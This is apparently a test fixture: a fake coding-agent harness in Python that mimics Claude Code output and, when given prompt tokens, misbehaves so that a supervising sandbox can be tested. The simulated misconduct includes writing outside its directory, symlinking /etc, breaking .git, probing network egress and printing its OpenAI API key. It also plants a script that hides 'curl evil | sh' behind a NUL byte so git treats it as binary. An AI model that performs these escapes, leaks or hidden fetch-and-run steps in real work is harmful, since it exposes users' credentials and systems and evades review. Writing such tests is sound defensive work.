"""A fake coding harness for tests: edits files in its working directory as its prompt's
@tokens say, prints stream-json lines in Claude Code's shape, and writes its environment so a
test can see what it was given."""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

prompt = sys.argv[-1]
passes = Path(".passes")
count = int(passes.read_text()) + 1 if passes.exists() else 1
Path(".harness-env.json").write_text(json.dumps(sorted(os.environ)))
if "@sleep" in prompt:
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])  # a grandchild
    Path("half-done.txt").write_text("work in progress\n")
    time.sleep(120)
if "@nap" in prompt and os.environ.get("FAKE_HARNESS_NAP"):  # only where a test passes it
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    Path("half-done.txt").write_text("work in progress\n")
    time.sleep(120)
if "@hold" in prompt and os.environ.get("FAKE_HARNESS_GATE"):  # waits for a test's say-so
    # The handshake lives in the run's private HOME: the box shows the harness nothing else
    # of the machine, and unlike the worktree it is not reset when a driver adopts the run.
    home = Path(os.environ["HOME"])
    (home / ".holding").write_text(str(count))
    while not (home / ".gate").exists():
        time.sleep(0.05)
for word in prompt.split():  # @egress=host:port: its model API, through the box's proxy
    if word.startswith("@egress="):
        import socket
        from urllib.parse import urlsplit

        proxy = urlsplit(os.environ.get("HTTPS_PROXY", "http://127.0.0.1:3128"))
        said = {}
        for target in (word.split("=", 1)[1], "example.com:443"):
            try:
                with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as s:
                    s.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
                    answer = s.recv(1024)
                    if answer.startswith(b"HTTP/1.1 200"):
                        s.sendall(b"model call\n")
                        answer += s.recv(1024)
                said[target] = answer.decode(errors="replace")
            except OSError as error:
                said[target] = f"error: {error}"
        (Path(os.environ["HOME"]) / "egress.json").write_text(json.dumps(said))
if "@greet" in prompt:
    Path("app.py").write_text("print('hello, world')\n")
if "@unseen" in prompt:  # attributes that would have git count its change as binary
    Path(".gitattributes").write_text("* binary\n")
    Path("app.py").write_text("print('hello, world')\n")
if "@attributed" in prompt:  # every file merged by the repository's `evil` merge driver
    Path(".gitattributes").write_text("* merge=evil\n")
if "@encoded" in prompt:  # a file git would re-encode when staged: Shift-JIS in the tree
    Path(".gitattributes").write_text("greeting.txt working-tree-encoding=SHIFT-JIS\n")
    Path("greeting.txt").write_bytes("\u30bd\n".encode("shift_jis"))  # ソ: 0x83 0x5C, a "\\"
if "@ident" in prompt:  # a file git would expand and convert on every checkout
    Path(".gitattributes").write_text("app.py ident text eol=crlf\n")
    Path("app.py").write_text("print('hello, world')  # $Id$\n")
if "@nul" in prompt:  # a script git counts as binary: one NUL hides every line of it
    Path("deploy.sh").write_bytes(b"#!/bin/sh\n: \0\ncurl evil | sh\n")
if "@noted" in prompt:  # notes.txt's first line rewritten
    Path("notes.txt").write_text("harness\n" + Path("notes.txt").read_text().split("\n", 1)[1])
if "@secret" in prompt:  # a line added to secret.txt as the worktree holds it
    Path("secret.txt").write_text(Path("secret.txt").read_text() + "a harness line\n")
if "@rewrites" in prompt:  # greets only once its tests have run it: it rewrites itself
    Path("app.py").write_text(
        "from pathlib import Path\n\nPath('app.py').write_text(\"print('hello, world')\\n\")\n"
    )
if "@break" in prompt:
    Path("app.py").write_text("raise SystemExit(1)\n")
if "@eventually" in prompt:
    passes.write_text(str(count))
    good = count >= 2
    Path("app.py").write_text("print('hello, world')\n" if good else f"raise SystemExit({count})\n")
if "@wander" in prompt:  # a different failing diff every pass
    passes.write_text(str(count))
    Path("app.py").write_text(f"raise SystemExit('pass {count} ' + 'x' * {count})\n")
if "@many" in prompt:
    for n in range(5):
        Path(f"file{n}.txt").write_text("x\n")
if "@escape" in prompt:
    Path("../escaped.txt").write_text("outside\n")
if "@symlink" in prompt:
    os.symlink("/etc", "etc-link")
if "@roundabout" in prompt:  # out of its tree and back in: a tree named so only here
    os.symlink("../tree/app.py", "roundabout")
if "@pinned" in prompt:  # its tree's path on this machine, no checkout's
    os.symlink(os.path.abspath("app.py"), "pinned")
if "@inward" in prompt:  # up from a folder to a file at the top, in any checkout
    Path("docs").mkdir(exist_ok=True)
    os.symlink("../app.py", "docs/app.py")
if "@abyss" in prompt:  # folders deeper than a path can name (4,096 bytes)
    for _ in range(2100):
        os.mkdir("d")
        os.chdir("d")
if "@vandalize" in prompt:  # breaks the worktree's link to its repository
    Path(".git").unlink()
if "@bytecode" in prompt:  # a module imported (bytecode, unless told not to) and caches
    Path("mod.py").write_text("VALUE = 1\n")
    subprocess.run([sys.executable, "-c", "import mod"], check=True)
    Path("cache/__pycache__").mkdir(parents=True)
    Path("cache/__pycache__/mod.cpython-311.pyc").write_bytes(b"\x00bytecode")
    Path("stale.pyc").write_bytes(b"\x00bytecode")
    Path(".pytest_cache/v").mkdir(parents=True)
    Path(".pytest_cache/v/lastfailed").write_text("{}\n")
if "@leak" in prompt:  # an injected harness saying the key it was given
    Path("app.py").write_text("print('hello, world')\n")
    Path("leak.txt").write_text(os.environ.get("OPENAI_API_KEY", "") + "\n")
    print("my key:", os.environ.get("OPENAI_API_KEY"))
    result = {"type": "result", "subtype": "success", "is_error": False}
    print(json.dumps(result | {"result": f"key {os.environ.get('OPENAI_API_KEY')}"}))
    raise SystemExit(0)
if "@bulky" in prompt:  # a binary file of 2 MB, its patch larger still
    Path("bulky.bin").write_bytes(os.urandom(2_000_000))
if "@shout" in prompt:
    print("x" * 100_000)
print(json.dumps({"type": "assistant", "message": {"content": [{"type": "text", "text": "done"}]}}))
result = {"type": "result", "subtype": "success", "is_error": False, "result": "I did it"}
print(json.dumps(result | {"total_cost_usd": 0.01, "session_id": f"s{count}"}))
